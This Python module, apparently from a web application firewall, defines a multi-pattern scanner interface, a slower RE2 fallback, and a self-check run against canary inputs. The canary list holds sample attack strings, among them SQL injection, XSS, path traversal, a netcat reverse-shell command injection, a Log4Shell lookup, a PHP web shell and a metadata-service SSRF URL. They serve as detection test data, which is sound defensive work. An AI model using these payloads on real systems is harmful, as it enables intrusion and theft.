"""Finds many patterns in one text at once: the port of the multi-pattern engine, and its stand-in. No I/O."""

from collections.abc import Callable, Sequence
from typing import Protocol

from gatewall.engine.waf.patterns import compile_line_search

Hit = tuple[int, int]
"""The number of a pattern and the position in the text at which a match of it ends."""


class Scanner(Protocol):
    """Looks for a fixed list of patterns; ``^`` and ``$`` hold at line feeds."""

    name: str

    def scan(self, text: bytes) -> list[Hit]:
        """Return one match of each pattern that has any, in no order."""


class Scanners(Protocol):
    """Where scanners of the multi-pattern engine come from; compiling takes seconds."""

    def want(self, patterns: Sequence[bytes], ready: Callable[[Scanner], None]) -> None:
        """Call ``ready`` with a scanner for the patterns, now or from another thread, or never."""


class OneByOne:
    """The stand-in: RE2, one pattern after the other. Linear as well, and about twenty times slower."""

    name = "re2"

    def __init__(self, patterns: Sequence[bytes]) -> None:
        """Raise PatternRefused if one of them is not RE2 syntax."""
        self._searches = [compile_line_search(pattern) for pattern in patterns]

    def scan(self, text: bytes) -> list[Hit]:
        return [(number, end) for number, ends in enumerate(self._searches) if (end := ends(text)) >= 0]


def agrees(scanner: Scanner, patterns: Sequence[bytes]) -> bool:
    """True if the scanner finds in the canaries whatever the stand-in finds there, and they are found at all."""
    found = {number for number, _ in scanner.scan(CANARIES)}
    expected = {number for number, _ in OneByOne(patterns).scan(CANARIES)}
    return expected <= found and not scanner.scan(b"")


CANARIES = b"\n".join(
    [
        b"/index.html",
        b"1' or '1'='1' -- -",
        b"1 union all select null,version() from information_schema.tables",
        b"<script>alert(document.cookie)</script>",
        b'"><img src=x onerror=alert(1)>',
        b"../../../../etc/passwd",
        b";cat /etc/passwd|nc -e /bin/sh 192.0.2.1 4444",
        b"${jndi:ldap://192.0.2.1/a}",
        b"<?php system($_GET['c']); ?>",
        b"{{7*7}}${7*7}",
        b"http://169.254.169.254/latest/meta-data/",
    ]
)
"""Attacks that a database of the built-in rules finds; an empty or broken one would look healthy otherwise."""
